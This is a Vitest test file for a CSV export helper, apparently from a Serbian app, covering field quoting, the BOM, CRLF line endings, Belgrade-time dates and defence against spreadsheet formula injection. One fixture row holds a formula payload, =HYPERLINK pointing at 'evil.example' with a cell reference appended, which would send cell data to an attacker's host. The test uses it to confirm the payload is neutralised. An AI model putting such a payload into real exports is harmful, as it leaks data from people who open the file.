import { describe, expect, test } from 'vitest'
import { CSV_BOM, csvDateTime, csvField, csvRecord, toCsv, type CsvCell } from '#app/domain/csv.ts'

/**
 * A strict RFC 4180 reader, to check that what we write reads back as the same cells (the way a
 * spreadsheet would, minus formulas). Throws on anything malformed.
 */
function parseCsv(text: string, delimiter: string): string[][] {
	const records: string[][] = []
	let record: string[] = []
	let i = 0
	while (i < text.length) {
		let field = ''
		if (text[i] === '"') {
			i++
			while (true) {
				if (i >= text.length) throw new Error('unterminated quoted field')
				if (text[i] === '"') {
					if (text[i + 1] === '"') {
						field += '"'
						i += 2
						continue
					}
					i++
					break
				}
				field += text[i++]
			}
		} else {
			while (i < text.length && text[i] !== delimiter && text[i] !== '\r' && text[i] !== '\n') {
				if (text[i] === '"') throw new Error(`bare quote at ${i}`)
				field += text[i++]
			}
		}
		record.push(field)
		if (text[i] === delimiter) {
			i++
			continue
		}
		if (text.startsWith('\r\n', i)) {
			records.push(record)
			record = []
			i += 2
			continue
		}
		throw new Error(`expected a delimiter or CRLF at ${i}, found ${JSON.stringify(text[i])}`)
	}
	if (record.length) throw new Error('the last record has no CRLF')
	return records
}

describe('csvField', () => {
	test('plain text and numbers are written as they are', () => {
		expect(csvField('Ana Petrović')).toBe('Ana Petrović')
		expect(csvField(12)).toBe('12')
		expect(csvField(0)).toBe('0')
		expect(csvField('')).toBe('')
	})

	test('null and undefined are empty fields', () => {
		expect(csvField(null)).toBe('')
		expect(csvField(undefined)).toBe('')
	})

	test('a field with the delimiter, a quote, CR or LF is quoted, and quotes are doubled', () => {
		expect(csvField('Kruševac; Niš')).toBe('"Kruševac; Niš"')
		expect(csvField('Đorđe "Đoka" Petrović')).toBe('"Đorđe ""Đoka"" Petrović"')
		expect(csvField('prvi red\ndrugi red')).toBe('"prvi red\ndrugi red"')
		expect(csvField('a\r\nb')).toBe('"a\r\nb"')
		expect(csvField('"')).toBe('""""')
	})

	test('which character needs quotes depends on the delimiter', () => {
		expect(csvField('a,b', ';')).toBe('a,b')
		expect(csvField('a;b', ';')).toBe('"a;b"')
		expect(csvField('a,b', ',')).toBe('"a,b"')
		expect(csvField('a;b', ',')).toBe('a;b')
	})

	test.each(['=1+1', '+381 64 123', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'])('a text cell starting with a formula character gets an apostrophe: %j', (value) => {
		const field = csvField(value)
		expect(field.replace(/^"/, '').startsWith(`'`)).toBe(true)
		// And it still reads back as the same text after the apostrophe.
		expect(parseCsv(`${field}\r\n`, ';')).toEqual([[`'${value}`]])
	})

	test('=HYPERLINK("x") is neutralised and quoted', () => {
		expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
	})

	test('formula characters elsewhere than at the start are left alone', () => {
		expect(csvField('Ana-Marija')).toBe('Ana-Marija')
		expect(csvField('a=b')).toBe('a=b')
		expect(csvField('ana@example.rs')).toBe('ana@example.rs')
	})

	test('numbers are never prefixed, negative ones included; non-finite numbers are refused', () => {
		expect(csvField(-3)).toBe('-3')
		expect(csvField(2.5)).toBe('2.5')
		expect(() => csvField(Number.NaN)).toThrow(TypeError)
		expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(TypeError)
	})
})

describe('toCsv', () => {
	test('starts with the UTF-8 BOM and ends every record with CRLF', () => {
		const text = toCsv([
			['ID', 'Ime'],
			[1, 'Ana'],
		])
		expect(text).toBe(`${CSV_BOM}ID;Ime\r\n1;Ana\r\n`)
		expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
	})

	test('the BOM can be left out, and the delimiter can be a comma', () => {
		expect(toCsv([['a', 'b;c', 'd,e']], { bom: false, delimiter: ',' })).toBe('a,b;c,"d,e"\r\n')
	})

	test('an empty export is just the BOM; a record of one empty field is an empty line', () => {
		expect(toCsv([])).toBe(CSV_BOM)
		expect(toCsv([['']], { bom: false })).toBe('\r\n')
	})

	test.each([';', ','] as const)('reads back cell for cell (delimiter %j)', (delimiter) => {
		const rows: CsvCell[][] = [
			['ID', 'Ime', 'E-pošta', 'Broj osoba'],
			[1, 'Đorđe "Đoka" Petrović; Niš', 'djoka@example.rs', 3],
			[2, 'Љубица Јовановић, Крушевац', 'ljubica@example.rs', 1],
			[3, '=HYPERLINK("http://evil.example/?"&A1)', '-@x', null],
			[4, 'dva\r\nreda', '', undefined],
		]
		const text = toCsv(rows, { delimiter })
		expect(text.startsWith(CSV_BOM)).toBe(true)
		const parsed = parseCsv(text.slice(CSV_BOM.length), delimiter)
		expect(parsed).toEqual([
			['ID', 'Ime', 'E-pošta', 'Broj osoba'],
			['1', 'Đorđe "Đoka" Petrović; Niš', 'djoka@example.rs', '3'],
			['2', 'Љубица Јовановић, Крушевац', 'ljubica@example.rs', '1'],
			['3', `'=HYPERLINK("http://evil.example/?"&A1)`, `'-@x`, ''],
			['4', 'dva\r\nreda', '', ''],
		])
		// No cell of what a spreadsheet reads starts with a formula character.
		for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
	})

	test('takes any iterable of records, e.g. a generator', () => {
		function* records(): Generator<CsvCell[]> {
			yield ['x']
			yield [1]
		}
		expect(toCsv(records(), { bom: false })).toBe('x\r\n1\r\n')
	})

	test('csvRecord joins fields without a line end', () => {
		expect(csvRecord(['a', 1, null, 'b;c'])).toBe('a;1;;"b;c"')
	})
})

describe('csvDateTime', () => {
	test('Belgrade wall-clock time in winter (UTC+1) and in summer (UTC+2)', () => {
		expect(csvDateTime(new Date('2026-12-05T09:00:00Z'))).toBe('2026-12-05 10:00:00')
		expect(csvDateTime(new Date('2026-06-05T09:30:15Z'))).toBe('2026-06-05 11:30:15')
	})

	test('midnight is 00, not 24, and the date rolls over in Belgrade, not in UTC', () => {
		expect(csvDateTime(new Date('2026-12-31T23:00:00Z'))).toBe('2027-01-01 00:00:00')
	})

	test('across the spring change (29 March 2026, 02:00 → 03:00)', () => {
		expect(csvDateTime(new Date('2026-03-29T00:59:59Z'))).toBe('2026-03-29 01:59:59')
		expect(csvDateTime(new Date('2026-03-29T01:00:00Z'))).toBe('2026-03-29 03:00:00')
	})

	test('no date, empty field', () => {
		expect(csvDateTime(null)).toBeNull()
		expect(csvDateTime(undefined)).toBeNull()
	})
})
